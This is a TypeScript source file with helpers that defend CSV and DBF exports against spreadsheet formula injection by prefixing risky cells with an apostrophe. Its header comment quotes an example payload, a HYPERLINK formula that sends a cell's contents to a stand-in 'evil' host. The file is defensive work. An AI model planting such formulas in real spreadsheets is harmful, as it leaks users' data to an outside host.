// The one rule for text cells of every exported file (CSV, DBF): a spreadsheet opening the file
// must not run what a user typed. A text that starts with = + - @ (or a tab / carriage return,
// which some programs skip before looking for one) is a formula to Excel and LibreOffice, e.g.
// `=HYPERLINK("http://evil/?"&A1;"klik")`; it is written with a leading apostrophe instead, which
// makes it plain text. XLSX exports write strings as string cells (exceljs), so they need none.

/** `text` as a cell that a spreadsheet shows as text, never evaluates. */
export function neutraliseFormula(text: string): string {
  return /^[=+\-@\t\r]/.test(text) ? `'${text}` : text;
}

/** One CSV field: quoted when needed; a leading = + - @ is neutralised (spreadsheet formulas). */
export function csvField(value: unknown): string {
  if (value === null || value === undefined) return "";
  let s = value instanceof Date ? value.toISOString().slice(0, 10) : String(value);
  s = neutraliseFormula(s);
  return /[",\r\n;]/.test(s) ? `"${s.replace(/"/g, '""')}"` : s;
}
